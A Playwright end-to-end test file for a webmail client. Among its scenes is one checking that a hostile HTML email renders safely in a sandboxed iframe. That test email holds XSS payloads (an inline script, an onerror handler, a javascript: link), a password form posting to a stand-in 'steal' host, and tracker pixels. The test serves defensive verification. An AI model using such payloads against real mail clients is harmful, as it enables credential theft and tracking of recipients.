/**
 * The story in a real browser, on a phone's width and on a desk's: sign in, read HTML that means harm, answer with an
 * attachment, delete and take it back, watch the banner through an outage, and follow the return in the control panel.
 * No scene may have a serious accessibility fault.
 */
import type { Page } from 'playwright-core'
import { afterAll, afterEach, beforeAll, describe, expect, onTestFinished, test } from 'vitest'
import { sendMail } from '../server/testkit/smtp-send.ts'
import { operator } from './kit/operator.ts'
import { startBrowserStage } from './kit/browser-stage.ts'
import type { BrowserStage } from './kit/browser-stage.ts'
import { passwordFor } from './kit/organisation.ts'
import { accessible, noSidewaysScroll, signInPage } from './kit/pages.ts'
import { openScreen } from './peers/chromium.ts'
import type { Screen } from './peers/chromium.ts'
import { missing } from './peers/needs.ts'

const skip = missing('chromium')
let stage: BrowserStage

const harmful = (nonce: string): string =>
  [
    'From: "Stranger" <stranger@outside.test>',
    'To: alice@pages.test',
    `Subject: harmful ${nonce}`,
    `Message-ID: <harmful-${nonce}@outside.test>`,
    'MIME-Version: 1.0',
    'Content-Type: text/html; charset=utf-8',
    '',
    '<p id="good">A good paragraph.</p>',
    '<script>top.hacked = 1; document.title = "hacked"</script>',
    '<img src="https://tracker.outside.test/pixel.gif" onerror="top.hacked = 2">',
    '<a href="javascript:top.hacked=3">press</a><form action="https://outside.test/steal"><input name="password"></form>',
    '<style>@import "https://tracker.outside.test/x.css"; body { background: url(https://tracker.outside.test/y.png) }</style>',
    '<iframe src="https://outside.test/"></iframe><meta http-equiv="refresh" content="0;url=https://outside.test/">',
    '',
  ].join('\r\n')
const plain = (subject: string): string =>
  `From: Customer <customer@outside.test>\r\nTo: alice@pages.test\r\nSubject: ${subject}\r\nMessage-ID: <${subject.replaceAll(' ', '-')}@outside.test>\r\n\r\nDear Alice,\r\n\r\na question.\r\n`
const send = (bytes: string) =>
  sendMail(stage.server.ports.mx, { from: 'customer@outside.test', to: ['alice@pages.test'] }, bytes)

beforeAll(async () => {
  if (!skip)
    stage = await startBrowserStage({
      domain: 'pages.test',
      people: ['alice', 'bob'],
      operator: true,
      route: { retryFirst: 1, retryMax: 3, return: { perSecond: 4 } },
    })
})
afterAll(async () => {
  if (!skip) await stage.close()
})

const signIn = (page: Page, name: string, password: string): Promise<void> =>
  signInPage(page, stage.server.ports.http, name, password)

const row = (page: Page, subject: string) => page.getByRole('option').filter({ hasText: subject }).first()
const back = async (page: Page): Promise<void> => {
  await page.goto(`http://127.0.0.1:${stage.server.ports.http}/mail`)
  await page.getByRole('option').first().waitFor()
}

describe.skipIf(skip).each([
  ['a phone', 360, 740],
  ['a desk', 1280, 860],
] as const)('on %s (%i px)', (_name, width, height) => {
  let screen: Screen
  beforeAll(async () => {
    screen = await openScreen(stage.browser, width, height)
  })
  afterAll(() => screen.close())
  // for looking into a failure: HOLDFAST_E2E_SHOTS=FOLDER
  afterEach(async ({ task }) => {
    const shots = process.env.HOLDFAST_E2E_SHOTS
    if (shots && task.result?.state === 'fail')
      await screen.page.screenshot({ path: `${shots}/${width}-${task.name.slice(0, 12).replaceAll(' ', '-')}.png` })
  })

  test('signs in and reads HTML safely', async () => {
    const { page, strangers } = screen
    await send(harmful(String(width)))
    await send(plain(`question ${width}`))
    await send(plain(`deletable ${width}`))
    await signIn(page, 'alice@pages.test', passwordFor('alice'))
    await row(page, `harmful ${width}`).waitFor()
    await accessible(page, 'list')
    await noSidewaysScroll(page)
    await row(page, `harmful ${width}`).click()
    const frame = page.frameLocator('iframe')
    await frame.getByText('A good paragraph.').waitFor()
    await page.waitForTimeout(500)
    expect(await page.evaluate(() => (globalThis as any).hacked ?? null)).toBeNull()
    expect(await page.title()).not.toContain('hacked')
    expect(strangers).toEqual([])
    expect(await page.locator('iframe').first().getAttribute('sandbox')).not.toMatch(/allow-scripts/)
    await accessible(page, 'reader')
    await noSidewaysScroll(page)
    await back(page)
  })

  test('answers with an attachment', async () => {
    const { page } = screen
    await back(page)
    await row(page, `question ${width}`).click()
    await page.getByRole('button', { name: 'Reply', exact: true }).filter({ visible: true }).first().click()
    const text = page.getByRole('textbox', { name: 'Text', exact: true })
    await text.waitFor()
    await text.press('Control+Home')
    await text.pressSequentially('Here is what you asked for. ')
    await page
      .locator('input[type=file]')
      .setInputFiles({ name: 'answer-é.txt', mimeType: 'text/plain', buffer: Buffer.from(`attached on ${width}`) })
    await page.getByText('answer-é.txt').first().waitFor()
    await page.waitForTimeout(800)
    await accessible(page, 'writer')
    const answer = page.waitForResponse((response) =>
      (response.request().postData() ?? '').includes('EmailSubmission/set'),
    )
    await page.getByRole('button', { name: 'Send', exact: true }).click()
    const said = await (await answer).text()
    expect(said).not.toMatch(/"notCreated":\{/)
    await page.getByText('Leaves in 10 seconds.').first().waitFor()
    const left = await stage.sink.store.waitFor((mail) => mail.bytes.includes(`question ${width}`), 20_000)
    expect(left.recipients).toEqual(['customer@outside.test'])
    expect(left.bytes.toString()).toContain('Here is what you asked for.')
    expect(left.bytes.toString()).toMatch(/filename\*?/)
    await back(page)
  })

  test('what is being written survives a reload; sent from two windows it leaves once, and the second is told', async () => {
    const { page } = screen
    const subject = `two windows ${width}`
    const subjectField = (where: Page) => where.getByRole('textbox', { name: 'Subject' })
    const sendButton = (where: Page) => where.getByRole('button', { name: 'Send', exact: true })
    const folder = async (name: string): Promise<void> => {
      if (width < 600) await page.getByRole('button', { name: 'Folders' }).first().click()
      await page
        .getByRole('link', { name: new RegExp(`^${name}`) })
        .filter({ visible: true })
        .first()
        .click()
    }
    await back(page)
    await page.goto(`${page.url()}?compose=new`)
    await page.getByRole('combobox', { name: 'To', exact: true }).fill('customer@outside.test')
    await subjectField(page).fill(subject)
    await page.getByRole('textbox', { name: 'Text', exact: true }).fill('Written once.')
    await page.reload()
    await expect.poll(() => subjectField(page).inputValue()).toBe(subject)
    await page.getByText(/^Saved/).waitFor()
    await page.getByRole('button', { name: 'Back', exact: true }).filter({ visible: true }).first().click()

    await folder('Drafts')
    const windows = [page, await page.context().newPage()]
    const drafts = page.url()
    for (const each of windows) {
      await each.goto(drafts)
      await row(each, subject).click()
      await expect.poll(() => subjectField(each).inputValue()).toBe(subject)
    }
    await sendButton(windows[0]!).click()
    await windows[0]!.getByText('Leaves in 10 seconds.').first().waitFor()
    await sendButton(windows[1]!).click()
    await windows[1]!.getByText(/in another window/).waitFor()
    await windows[1]!.getByRole('button', { name: 'Discard', exact: true }).click()
    await stage.sink.store.waitFor((mail) => mail.bytes.includes(`Subject: ${subject}`), 20_000)
    await page.waitForTimeout(1_000)
    expect(stage.sink.store.all().filter((mail) => mail.bytes.includes(`Subject: ${subject}`))).toHaveLength(1)
    await windows[1]!.close()
  })

  test('takes a sent message back, sends it later, sees it waiting, and takes it back for good', async () => {
    const { page } = screen
    const subject = `later ${width}`
    const left = (): number =>
      stage.sink.store.all().filter((mail) => mail.bytes.includes(`Subject: ${subject}`)).length
    await back(page)
    await page.goto(`${page.url()}?compose=new`)
    await page.getByRole('combobox', { name: 'To', exact: true }).fill('customer@outside.test')
    await page.getByRole('textbox', { name: 'Subject' }).fill(subject)
    const text = page.getByRole('textbox', { name: 'Text', exact: true })
    await text.fill('A word too many.')
    await text.press('Control+Enter')
    await page.getByText('Leaves in 10 seconds.').first().waitFor()
    await page.getByRole('button', { name: 'Undo' }).first().click()
    await expect.poll(() => text.inputValue()).toBe('A word too many.')
    await text.fill('Better.')
    await text.press('Control+Shift+Enter')
    await accessible(page, 'send later')
    await noSidewaysScroll(page)
    const at = page.getByLabel('Date and time')
    await at.fill('2020-01-01T08:00')
    await page.getByRole('button', { name: 'Send at this time' }).click()
    await page.getByText('Choose a time that is still to come.').waitFor()
    const tomorrow = new Date(Date.now() + 86_400_000)
    await at.fill(`${tomorrow.toISOString().slice(0, 10)}T08:00`)
    await page.getByRole('button', { name: 'Send at this time' }).click()
    await page.getByText(/^Will be sent:/).waitFor()
    expect(left()).toBe(0)

    await page.goto(`${page.url().split('?')[0]}?later=true`)
    await page.getByRole('button', { name: subject, exact: true }).waitFor()
    await accessible(page, 'scheduled')
    await noSidewaysScroll(page)
    await page.getByRole('button', { name: `Do not send “${subject}”` }).click()
    await page.getByText('Nothing waits to be sent.').waitFor()
    await page.getByText('Not sent. It is a draft again.').first().waitFor()
    await page.waitForTimeout(1_500)
    expect(left()).toBe(0)
  })

  test('deletes and takes it back', async () => {
    const { page } = screen
    await back(page)
    await row(page, `deletable ${width}`).click()
    await page.getByRole('button', { name: 'Delete', exact: true }).filter({ visible: true }).first().click()
    await page.getByText('1 message is in the Trash.').first().waitFor()
    await page.getByRole('button', { name: 'Undo' }).first().click()
    await back(page)
    await row(page, `deletable ${width}`).waitFor()
  })

  test('the banner tells of an outage and of its end; the control panel follows the return', async () => {
    const { page, errors } = screen
    onTestFinished(() => stage.primary.setFault(null))
    await back(page)
    const banner = page.getByRole('region', { name: 'State of your mail system' })
    await banner.waitFor()
    await stage.primary.setFault('off')
    await banner.getByText(/is not taking mail/).waitFor({ timeout: 30_000 })
    for (let i = 0; i < 12; i++) await send(plain(`waiting ${width} ${i}`))
    await row(page, `waiting ${width} 11`).waitFor({ timeout: 30_000 })
    await accessible(page, 'emergency')

    const panel = await openScreen(stage.browser, width, height)
    await signIn(panel.page, operator.name, operator.password)
    await panel.page.getByRole('region', { name: 'primary' }).waitFor()
    await panel.page.getByText('Emergency').first().waitFor()
    // a way out has no mode to switch
    const switchOf = (name: string) =>
      panel.page.getByRole('region', { name, exact: true }).getByRole('button', { name: 'Switch' })
    expect([await switchOf('primary').count(), await switchOf('outside').count()]).toEqual([1, 0])
    await accessible(panel.page, 'board')
    await noSidewaysScroll(panel.page)
    await stage.primary.setFault(null)
    await panel.page.getByRole('progressbar').first().waitFor({ timeout: 30_000 })
    await banner.getByText(/is answering again|This is the standby/).waitFor({ timeout: 30_000 })
    await stage.primary.store.waitFor((mail) => mail.bytes.includes(`waiting ${width} 11`), 40_000)
    await banner.getByText(/This is the standby/).waitFor({ timeout: 40_000 })
    expect(panel.errors).toEqual([])
    expect(panel.strangers).toEqual([])
    await panel.close()
    expect(errors).toEqual([])
  })
})
